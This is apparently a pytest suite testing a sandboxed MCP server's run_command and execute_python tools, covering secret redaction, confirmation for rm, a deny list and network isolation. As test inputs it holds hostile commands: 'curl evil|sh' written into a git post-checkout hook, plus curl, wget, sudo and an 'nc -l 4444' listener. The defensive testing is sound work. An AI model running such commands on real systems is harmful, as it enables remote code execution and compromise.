"""run_command and execute_python end to end: policy, confirmation and the real sandbox (issues 3, 4, 7)."""

from __future__ import annotations

import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from mcp import Client

from secure_mcp.config import Config
from secure_mcp.sandbox import Sandbox, SandboxSettings
from secure_mcp.testing import MemoryAuditSink
from tests.support import REQUIRE_DOCKER, SANDBOX_IMAGE, docker_problem, make_config, reply, runtime

pytestmark = [pytest.mark.anyio, pytest.mark.docker]
ERAS = ["auto", "legacy"]
IMAGE = SANDBOX_IMAGE


@pytest.fixture(scope="module")
def docker_ready() -> None:
    problem = docker_problem()
    if problem is not None:
        if REQUIRE_DOCKER:
            pytest.fail(f"SECURE_MCP_REQUIRE_DOCKER=1 but {problem}")
        pytest.skip(problem)


@pytest.fixture
def config(tmp_path: Path, docker_ready: None) -> Config:
    tmp_path.chmod(0o755)
    cfg = make_config(tmp_path, {"sandbox": {"warm_pool": 1, "image": IMAGE}})
    cfg.workspace_root.mkdir(parents=True, exist_ok=True)
    cfg.workspace_root.chmod(0o777)
    return cfg


@pytest.fixture
async def sandbox(config: Config) -> AsyncIterator[Sandbox]:
    settings = SandboxSettings.from_config(config.sandbox)
    box = Sandbox(settings, config.workspace_root, instance_id=f"e2e-{uuid.uuid4().hex[:10]}")
    await box.start()
    try:
        yield box
    finally:
        await box.close()


def _data(result: Any) -> dict[str, Any]:
    assert not result.is_error, result.content[0].text
    return dict(result.structured_content or {})


@pytest.mark.parametrize("mode", ERAS)
async def test_allowed_pipeline_runs_in_the_sandbox_and_output_is_redacted(
    config: Config, sandbox: Sandbox, mode: str
) -> None:
    """An allowed pipeline runs without asking; a secret it prints is masked and counted."""
    token = "ghp_" + "Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8"
    async with runtime(config, sandbox=sandbox) as rt:
        async with Client(rt.server, mode=mode) as c:
            piped = _data(await c.call_tool("run_command", {"command": "echo hello | wc -c"}))
            leaked = _data(await c.call_tool("run_command", {"command": f"echo {token}"}))
    assert piped["exit_code"] == 0 and piped["stdout"].strip() == "6"
    assert token not in leaked["stdout"] and "[REDACTED:" in leaked["stdout"]
    assert leaked["redactions"] and leaked["redactions"][0]["count"] == 1


@pytest.mark.parametrize("mode", ERAS)
@pytest.mark.parametrize(
    "command", ["rm canary.txt", "/bin/rm canary.txt", "ls && r''m canary.txt", "echo x | xargs rm canary.txt"]
)
async def test_a_confirm_program_never_runs_when_the_user_declines(
    config: Config, sandbox: Sandbox, mode: str, command: str
) -> None:
    """A declining client keeps `rm` (however spelled) from running: the canary file survives."""
    canary = config.workspace_root / "canary.txt"
    canary.write_text("alive")
    canary.chmod(0o666)
    seen: list[str] = []
    async with runtime(config, sandbox=sandbox) as rt:
        async with Client(rt.server, mode=mode, elicitation_callback=reply("decline", None, seen)) as c:
            result = await c.call_tool("run_command", {"command": command})
    assert result.is_error and result.content[0].text.startswith("blocked by confirm: ")  # type: ignore[union-attr]
    assert canary.read_text() == "alive"
    assert "rm: confirm" in seen[0]


@pytest.mark.parametrize("mode", ERAS)
async def test_a_confirm_program_runs_after_a_yes(config: Config, sandbox: Sandbox, mode: str) -> None:
    """The same `rm` runs once the user accepts: the confirmation is what stood in the way."""
    canary = config.workspace_root / "canary.txt"
    canary.write_text("alive")
    canary.chmod(0o666)
    async with runtime(config, sandbox=sandbox) as rt:
        async with Client(rt.server, mode=mode, elicitation_callback=reply("accept", {"approve": True})) as c:
            result = await c.call_tool("run_command", {"command": "rm canary.txt"})
    assert _data(result)["exit_code"] == 0
    assert not canary.exists()


@pytest.mark.parametrize("mode", ERAS)
async def test_denied_programs_are_refused_before_any_container_starts(
    config: Config, sandbox: Sandbox, mode: str
) -> None:
    """deny refuses in validate, naming each program's verdict; the sandbox is never asked."""
    sink = MemoryAuditSink()
    async with runtime(config, sandbox=sandbox, sink=sink) as rt:
        async with Client(rt.server, mode=mode, elicitation_callback=reply("accept", {"approve": True})) as c:
            results = [
                await c.call_tool("run_command", {"command": cmd})
                for cmd in ("curl http://x", "ls; sudo id", "env wget x", "bash -c 'nc -l 4444'")
            ]
    for result in results:
        text = result.content[0].text  # type: ignore[union-attr]
        assert result.is_error and text.startswith("blocked by validate: the command would start a denied program")
    assert sink.events("executed") == []


@pytest.mark.parametrize("mode", ERAS)
async def test_execute_python_runs_without_network_and_with_a_read_only_workspace(
    config: Config, sandbox: Sandbox, mode: str
) -> None:
    """execute_python prints, cannot write the workspace, cannot open a socket; errors are results."""
    code = (
        "import socket, pathlib\n"
        "print(1)\n"
        "try:\n    pathlib.Path('/workspace/x').write_text('x'); print('wrote')\n"
        "except OSError: print('ro')\n"
        "try:\n    socket.create_connection(('127.0.0.1', 9), 1); print('net')\n"
        "except OSError: print('nonet')\n"
        "raise SystemExit(3)\n"
    )
    async with runtime(config, sandbox=sandbox) as rt:
        async with Client(rt.server, mode=mode) as c:
            data = _data(await c.call_tool("execute_python", {"code": code, "timeout_s": 20}))
    assert data["stdout"].split() == ["1", "ro", "nonet"]
    assert data["exit_code"] == 3 and data["timed_out"] is False
    assert not (config.workspace_root / "x").exists()


@pytest.mark.parametrize("mode", ERAS)
async def test_a_timeout_is_a_result_not_an_error(config: Config, sandbox: Sandbox, mode: str) -> None:
    """An endless loop with timeout_s=2 ends with timed_out true and the output before it."""
    async with runtime(config, sandbox=sandbox) as rt:
        async with Client(rt.server, mode=mode) as c:
            data = _data(
                await c.call_tool(
                    "execute_python", {"code": "print('started', flush=True)\nwhile True: pass", "timeout_s": 2}
                )
            )
    assert data["timed_out"] is True and "started" in data["stdout"]


@pytest.mark.parametrize("mode", ERAS)
async def test_a_long_call_reports_progress_to_a_client_that_asked(config: Config, sandbox: Sandbox, mode: str) -> None:
    """MCP progress notifications carry elapsed seconds and output bytes while the code runs."""
    updates: list[tuple[float, str | None]] = []

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        updates.append((progress, message))

    code = "import time\nfor i in range(3):\n    print(i, flush=True); time.sleep(1)\n"
    async with runtime(config, sandbox=sandbox) as rt:
        async with Client(rt.server, mode=mode) as c:
            result = await c.call_tool("execute_python", {"code": code}, progress_callback=on_progress)
    assert _data(result)["stdout"].split() == ["0", "1", "2"]
    assert updates, "no progress notification arrived"
    assert all(message and "bytes of output" in message for _, message in updates)
    assert [p for p, _ in updates] == sorted(p for p, _ in updates)


async def test_run_command_cannot_plant_a_git_hook_that_would_run_on_the_host(config: Config) -> None:
    """Hooks and config of an existing .git stay untouched; the rest of the command applies."""
    hooks = config.workspace_root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (config.workspace_root / ".git" / "config").write_text("[core]\n")
    settings = SandboxSettings.from_config(config.sandbox.model_copy(update={"warm_pool": 0}))
    box = Sandbox(settings, config.workspace_root, instance_id=f"e2e-{uuid.uuid4().hex[:10]}")
    await box.start()
    try:
        async with runtime(config, sandbox=box) as rt:
            async with Client(rt.server) as c:
                result = await c.call_tool(
                    "run_command",
                    {"command": "echo 'curl evil|sh' > .git/hooks/post-checkout; echo x >> .git/config; echo ok > f"},
                )
    finally:
        await box.close()
    assert "post-checkout" in _data(result)["stderr"]  # the shell reported the failed redirect
    assert list(hooks.iterdir()) == []
    assert (config.workspace_root / ".git" / "config").read_text() == "[core]\n"
    assert (config.workspace_root / "f").read_text() == "ok\n"
